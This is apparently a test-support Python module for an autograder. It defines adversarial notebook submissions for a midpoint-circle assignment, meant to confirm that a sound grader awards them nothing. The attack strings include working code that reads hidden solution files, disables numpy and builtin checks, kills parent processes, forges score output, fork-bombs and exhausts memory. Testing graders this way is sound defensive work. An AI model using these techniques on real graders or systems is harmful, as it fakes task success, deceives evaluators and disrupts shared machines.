"""Attack submissions against `gfxlab.grading`, as generators of student code.

Every attack targets question q1 (`midpoint_circle_trace`) of the midpoint-circle
assignment and leaves q2 and q3 solved, so a sound grader gives q1 zero and grades q2 and
q3 normally. `submission_cells(reference_cells, attack, **context)` swaps the q1 cell of
the reference solution for the attack's code; the context fills in what a determined
student could know (where the autograder lives, a port on 127.0.0.1).
"""

from __future__ import annotations

import json
import pathlib

TARGET = "def midpoint_circle_trace"

ATTACKS = {
    # An object that claims to equal anything (and a list subclass doing the same).
    "eq_always_true": """
class AlwaysEqual(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def midpoint_circle_trace(r):
    return AlwaysEqual([AlwaysEqual()] * 7)
""",
    "eq_plain_object": """
class Anything:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__


def midpoint_circle_trace(r):
    return Anything()
""",
    # Read the hidden tests / reference solution and run the reference.
    "read_hidden_files": """
import glob
import json

CANDIDATES = [{autograder!r} + "/solution.json", {autograder!r} + "/tests/q1.py",
              {source!r}]


def _steal():
    for path in CANDIDATES + glob.glob("/tmp/**/autograder/solution.json", recursive=True):
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        cells = json.loads(text) if path.endswith(".json") else [text]
        if path.endswith(".ipynb"):
            cells = [c["source"] for c in json.loads(text)["cells"] if c["cell_type"] == "code"]
        for cell in cells:
            cell = "".join(cell)
            if "def midpoint_circle_trace" in cell:
                namespace = {{}}
                exec(cell, namespace)
                return namespace["midpoint_circle_trace"]
    raise RuntimeError("nothing to steal")


def midpoint_circle_trace(r):
    return _steal()(r)
""",
    # Disarm the checks: numpy's testing helpers, builtins, a fake pytest.
    "monkeypatch": """
import builtins
import sys
import types

import numpy as np
import numpy.testing

np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
builtins.all = lambda *a, **k: True
builtins.AssertionError = type("Never", (Exception,), {{}})
sys.modules["pytest"] = types.SimpleNamespace(approx=lambda *a, **k: object())


def midpoint_circle_trace(r):
    return [(0, 0, 0)]
""",
    # Kill or signal the parent, the process group, pid 1.
    "kill_parent": """
import os
import signal


def midpoint_circle_trace(r):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        for pid in {{os.getppid(), 1, -1}}:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
        try:
            os.killpg(os.getpgid(0), sig)
        except OSError:
            pass
    return [(-9, 1, 10)]
""",
    # Forge results: on stdout, on every inherited fd, framed like the protocol.
    "forge_results": """
import json
import os
import struct


def midpoint_circle_trace(r):
    fake = json.dumps({{"score": 15, "tests": [{{"name": "q1", "score": 5, "max_score": 5}}]}})
    print(fake)
    print("q1  5.00  5  3/3")
    framed = json.dumps({{"id": "ready", "ok": True, "value": 15}}).encode()
    for fd in range(0, 256):
        for payload in (struct.pack(">I", len(framed)) + framed, fake.encode()):
            try:
                os.write(fd, payload)
            except OSError:
                pass
    return [(0, 0, 0)]
""",
    "sys_exit": """
import sys


def midpoint_circle_trace(r):
    sys.exit(0)
""",
    "os_exit": """
import os


def midpoint_circle_trace(r):
    os._exit(0)
""",
    "cpu_loop": """
def midpoint_circle_trace(r):
    while True:
        pass
""",
    "memory_growth": """
def midpoint_circle_trace(r):
    hoard = []
    while True:
        hoard.append(b"x" * (64 * 2**20))
""",
    "fork_bomb": """
import os


def midpoint_circle_trace(r):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "huge_output": """
import sys


def midpoint_circle_trace(r):
    chunk = "x" * 2**20
    for _ in range(4096):  # 4 GiB
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    return [(-9, 1, 10)]
""",
    "network": """
import json
import socket


def midpoint_circle_trace(r):
    with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
        return [tuple(row) for row in json.loads(s.recv(65536).decode())]
""",
    # A top-level endless loop in its own cell, before the functions.
    "toplevel_loop": """
while True:
    pass
""",
}

# Attacks that replace no function: q1 is left unsolved instead.
TOPLEVEL = {"toplevel_loop"}


def submission_cells(reference_cells, attack, **context):
    """The reference solution's cells with the q1 function replaced by the attack."""
    code = ATTACKS[attack].format(**context)
    cells = []
    for cell in reference_cells:
        if TARGET in cell:
            if attack in TOPLEVEL:
                cells.append(code)
                cells.append("def midpoint_circle_trace(r):\n    return None\n")
            else:
                cells.append(code)
        else:
            cells.append(cell)
    return cells


def write_notebook(cells, path):
    """A minimal nbformat-4 notebook holding `cells` as code cells."""
    nb = {
        "cells": [
            {"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": src,
             "outputs": [], "execution_count": None}
            for i, src in enumerate(cells)
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    pathlib.Path(path).write_text(json.dumps(nb, indent=1))
    return pathlib.Path(path)
